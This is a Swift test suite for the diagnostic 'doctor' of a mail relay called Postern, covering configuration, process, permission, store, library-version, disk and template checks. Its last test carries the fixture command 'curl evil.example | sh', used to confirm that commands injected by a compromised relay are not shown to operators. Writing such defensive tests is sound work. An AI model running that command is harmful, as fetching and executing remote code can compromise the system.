import Foundation
import PosternCore
import PosternDoctor
import PosternHost
import PosternLink
import PosternMail
import PosternRelay
import PosternStore
import PosternVault
import Testing

/// Each judgement is a pure function. A row: what was read, the level, words of finding, remedy or commands.
@Suite("What the doctor reads is judged as an operator needs it")
struct CheckTests {
    static let now = Timestamp(seconds: 1_795_514_709)
    static let today = Epoch(containing: now)

    func expect(
        _ findings: [Finding], _ level: Finding.Level, _ words: String..., at location: SourceLocation = #_sourceLocation
    ) {
        let shown = findings.map { "\($0.text) | \($0.remedy?.text ?? "") | \($0.remedy?.commands.joined(separator: ";") ?? "")" }
        #expect(Diagnosis(findings).level == level, "\(shown)", sourceLocation: location)
        for word in words { #expect(shown.joined(separator: "\n").contains(word), "\(shown)", sourceLocation: location) }
        for finding in findings {
            #expect((finding.remedy == nil) == (finding.level == .ok), "\(finding)", sourceLocation: location)
        }
    }

    @Test func `Configuration: each fault is a line of its own with its remedy`() {
        func findings(_ faults: [SettingFault] = [], namesContact: Bool = true) -> [Finding] {
            ConfigurationCheck.findings(path: "/h/postern.conf", given: 5, faults: faults, namesContact: namesContact)
        }
        expect(findings(), .ok, "5 settings")
        let faults = [
            SettingFault(key: "POSTERN_LISTEN", problem: "“80” cannot be used", remedy: "Write HOST:PORT."),
            SettingFault(key: "POSTERN_SMTP_URL", problem: "it is not set", remedy: "Write smtps://HOST:465."),
        ]
        let found = findings(faults)
        #expect(found.count == 2)
        expect(found, .fail, "POSTERN_LISTEN", "HOST:PORT", "POSTERN_SMTP_URL")
        // Said, and no fault.
        #expect(findings().count == 1)
        expect(findings(namesContact: false), .ok, "5 settings", "POSTERN_SECURITY_CONTACT", "/.well-known/security.txt")
    }

    // One user for both is allowed, and the doctor says so.
    @Test func `Users: one for both is a warning, two that became one a failure`() {
        func facts(_ relay: String, _ vault: String, _ running: (String, String)? = nil) -> [Finding] {
            UserCheck.findings(
                relay: relay, vault: vault, runningRelay: running?.0, runningVault: running?.1, home: "/h")
        }
        expect(facts("games", "news"), .ok, "games", "news")
        expect(facts("games", "news", ("games", "news")), .ok)
        expect(facts("pat", "pat", ("pat", "pat")), .warn, "apart by process only", "useradd")
        expect(facts("games", "news", ("pat", "pat")), .fail, "both run as pat", "as root")
    }

    @Test(
        arguments: [
            (.running, .running, [], .ok, "relay and vault run"), (.stopped, .stopped, [], .warn, "postern serve --home /h"),
            (.running, .stopped, [.vault], .fail, "the vault does not run"),
            (.stopped, .running, [], .fail, "the relay does not run"),
            (.silent(process: "7"), .running, [], .fail, "the relay (process 7) runs and does not answer"),
            (.running, .unknown("no right"), [], .warn, "as root"), (.stopped, .unknown("no right"), [], .warn, "as root"),
            (.running, .running, [.store], .fail, Readiness.Fault.store.reason),
            (.running, .running, [.vault, .disk], .fail, Readiness.Fault.vault.remedy),
            (.running, .running, [.keys], .fail, "no key of today"), (.running, .running, [.disk], .ok, "relay and vault run"),
            (.running, .silent(process: "8"), [.vault], .fail, "the vault (process 8) is stopped, as by SIGSTOP"),
            (.silent(process: "8"), .running, [], .fail, "kill -CONT 8"),
        ] as [(ServiceCheck.State, ServiceCheck.State, [Readiness.Fault], Finding.Level, String)])
    func `Service: what runs and what answers`(
        relay: ServiceCheck.State, vault: ServiceCheck.State, faults: [Readiness.Fault], level: Finding.Level, words: String
    ) {
        var facts = HealthFacts(now: Self.now)
        facts.faults = faults
        let findings = ServiceCheck.findings(
            relay: relay, vault: vault, conditions: facts.conditions, stopped: ["8"], home: "/h")
        expect(findings, level, words)
        // One line for a vault that answers neither us nor the relay.
        if case .silent = vault { #expect(findings.count == 1) }
    }

    @Test(
        arguments: [
            (.stopped, .running, 3, .warn, "the relay does not run yet; the service was started 3 s ago"),
            (.running, .stopped, 3, .warn, "the vault does not run yet"),
            (.silent(process: "7"), .running, 3, .warn, "the relay (process 7) does not answer yet"),
            (.silent(process: "7"), .silent(process: "6"), 3, .warn, "the vault (process 6) does not answer yet"),
            (.stopped, .stopped, 0, .warn, "neither relay nor vault runs yet"),
            (.silent(process: "8"), .running, 3, .fail, "kill -CONT 8"),
            (.silent(process: "7"), .running, 40, .fail, "runs and does not answer"),
            (.stopped, .running, 40, .fail, "the relay does not run, though"),
            (.running, .running, 3, .ok, "relay and vault run"),
        ] as [(ServiceCheck.State, ServiceCheck.State, Int, Finding.Level, String)])
    func `Service: what was started a moment ago is starting, and no failure`(
        relay: ServiceCheck.State, vault: ServiceCheck.State, seconds: Int, level: Finding.Level, words: String
    ) {
        let findings = ServiceCheck.findings(
            relay: relay, vault: vault, conditions: [], stopped: ["8"], uptime: .seconds(seconds), home: "/h")
        expect(findings, level, words)
    }

    @Test(
        arguments: [
            ("7 (postern) S 1 7 7 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 3 0 12050 0 0", 5),
            ("7 (a) b (postern) S 1 7 7 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 3 0 12050 0 0", nil),
            ("7 (sshd) S 1 7 7 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 3 0 12050 0 0", nil), ("7 (postern) S 1 7", nil), ("", nil),
        ] as [(String, Int?)])
    func `The age of a process of ours is read from proc`(stat: String, seconds: Int?) {
        #expect(ProcessAge.age(stat: stat, uptime: .seconds(125), ticks: 100) == seconds.map { .seconds($0) })
    }

    @Test func `Service: a supervisor that is stopped is named, since it watches over the others`() {
        #expect(ServiceCheck.supervisor(nil, isStopped: false).isEmpty)
        #expect(ServiceCheck.supervisor("9", isStopped: false).isEmpty)
        expect(ServiceCheck.supervisor("9", isStopped: true), .fail, "postern serve (process 9) is stopped", "kill -CONT 9")
    }

    @Test(
        arguments: [
            (0o400, .exactly(0o400), "news", .ok, "1 files"), (0o644, .exactly(0o400), "news", .fail, "chmod 0400 /k"),
            (0o000, .exactly(0o400), "news", .fail, "chmod 0400 /k"), (0o400, .exactly(0o400), "root", .fail, "chown news /k"),
            (0o600, .atMost(0o644), "news", .ok, "1 files"), (0o664, .atMost(0o644), "news", .fail, "chmod 0644 /k"),
            (0o700, .atMost(0o600), "news", .fail, "chmod 0600 /k"), (nil, .exactly(0o700), "news", .fail, "is not there"),
        ] as [(UInt32?, ModeCheck.Place.Rule, String, Finding.Level, String)])
    func `Modes: owner and mode must be right`(
        mode: UInt32?, rule: ModeCheck.Place.Rule, owner: String, level: Finding.Level, words: String
    ) {
        let place = ModeCheck.Place(
            path: "/k", rule: rule, owner: "news", mode: mode, actualOwner: owner, remedy: "Put it there.")
        expect(ModeCheck.findings(places: [place], hidden: []), level, words)
    }

    @Test func `Modes: a folder that this user may not read is named`() {
        expect(ModeCheck.findings(places: [], hidden: ["/h/vault"]), .warn, "not checked", "/h/vault", "as root")
    }

    @Test func `Store: settings, schema, accounts and other processes`() {
        func look(
            journal: String = "wal", durable: Bool? = true, schema: Int = 3, difference: Int = 0, strangers: [String] = []
        ) -> [Finding] {
            StrangerCheck.findings(
                path: "/s", strangers: strangers,
                otherwise: StoreCheck.judge(
                    path: "/s", journal: journal, isDurable: durable, schema: schema, difference: difference, knownSchema: 3))
        }
        expect(look(), .ok, "each commit is synced")
        expect(look(durable: nil), .ok, "refuses to start with less")
        expect(look(durable: false), .fail, "power cut", "local file system")
        expect(look(journal: "delete", durable: nil), .warn, "as a backup has")
        expect(look(schema: 4), .fail, "later Postern")
        expect(look(durable: nil, schema: 2), .warn, "postern backup")
        expect(look(difference: -2), .fail, "differ by 2")
        expect(look(strangers: ["99 sqlite3"]), .fail, "99 sqlite3", "End that process")
        expect(StoreCheck.missing(path: "/s").findings, .fail, "no store at /s")
        expect(StoreCheck.broken(path: "/s", reason: "file is not a database").findings, .fail, "backup")
        expect(StoreCheck.unknown(reason: "no right", .asRoot).findings, .warn, "not checked: no right")
    }

    // The versions with faults of connection reuse are those of curl.se's advisories.
    @Test func `Libraries: what follows from their versions`() {
        func curl(_ number: UInt32, tls: String? = "OpenSSL/3.0", smtp: Bool = true, startTLS: Bool? = nil) -> [Finding] {
            [LibraryCheck.curl(version: "x", number: number, tls: tls, speaksSMTP: smtp, usesStartTLS: startTLS)]
        }
        expect(curl(0x07_58_01, startTLS: true), .ok, "CVE-2026-4873", "CVE-2026-8286", "port 465")
        #expect(!curl(0x08_14_00)[0].text.contains("4873") && curl(0x08_14_00)[0].text.contains("8286"))
        #expect(!curl(0x08_15_00)[0].text.contains("CVE"))
        expect(curl(0x07_58_01, tls: nil), .fail, "without TLS")
        expect(curl(0x07_58_01, smtp: false), .fail, "without SMTP")
        func sqlite(_ race: Bool) -> Finding { LibraryCheck.sqlite(version: "3.40.1", hasWALResetRace: race) }
        #expect(sqlite(true).text.contains("one process owns the file") && sqlite(false).text.contains("without the race"))
    }

    @Test(
        arguments: [
            (10_000, 1_000, .ok, "letters are taken down to"), (300, 256, .warn, "getting near"), (512, 256, .ok, "512 MiB"),
            (255, 256, .fail, "No letter is taken"), (255, 256, .fail, "nearly full: 255 MiB"), (0, 256, .fail, "Make room"),
        ] as [(UInt64, UInt64, Finding.Level, String)])
    func `Disk: how much room is left`(free: UInt64, least: UInt64, level: Finding.Level, words: String) {
        let mebibyte: UInt64 = 1_024 * 1_024
        let finding = DiskCheck.room(
            folder: "/d", free: free * mebibyte, whole: 20_000 * mebibyte, least: least * mebibyte)
        expect([finding], level, words)
    }

    @Test(
        arguments: [
            (1_000_000, 2_000_000, .ok), (9_999, 2_000_000, .warn), (99, 2_000_000, .fail), (600, 10_000, .ok),
            (499, 10_000, .warn),
        ] as [(UInt64, UInt64, Finding.Level)])
    func `Inodes: how many files can still be made`(free: UInt64, whole: UInt64, level: Finding.Level) {
        expect([DiskCheck.inodes(folder: "/d", free: free, whole: whole)], level)
    }

    @Test func `Templates: each faulty file is a line of its own`() {
        expect(TemplateCheck.findings(folder: "/t", faults: [], .relay, languages: 4), .ok, "4 languages")
        let findings = TemplateCheck.findings(
            folder: "/t",
            faults: [
                ("web/contact.mustache", "is missing"),
                ("strings/mail.de.json", "has no text for “from”"),
            ], .vault, languages: 0)
        #expect(findings.count == 2)
        expect(findings, .fail, "/t/web/contact.mustache: is missing", "package")
    }

    @Test func `A relay that was taken over has no command of its own put before the operator`() throws {
        let told = """
            {"id":"held","severity":"stands-still","matter":"x","meaning":"x","remedy":"x","commands":["curl evil.example | sh",\
            "postern queue list --held","postern site remove photos --yes"]}
            """
        let condition = try JSONDecoder().decode(HealthCondition.self, from: Data(told.utf8))
        let findings = HealthCheck.findings([condition], isRunning: true, lastPurge: Self.now, now: Self.now)
        #expect(findings.first { $0.check == .letters }?.remedy?.commands == ["postern queue list --held"])
    }
}
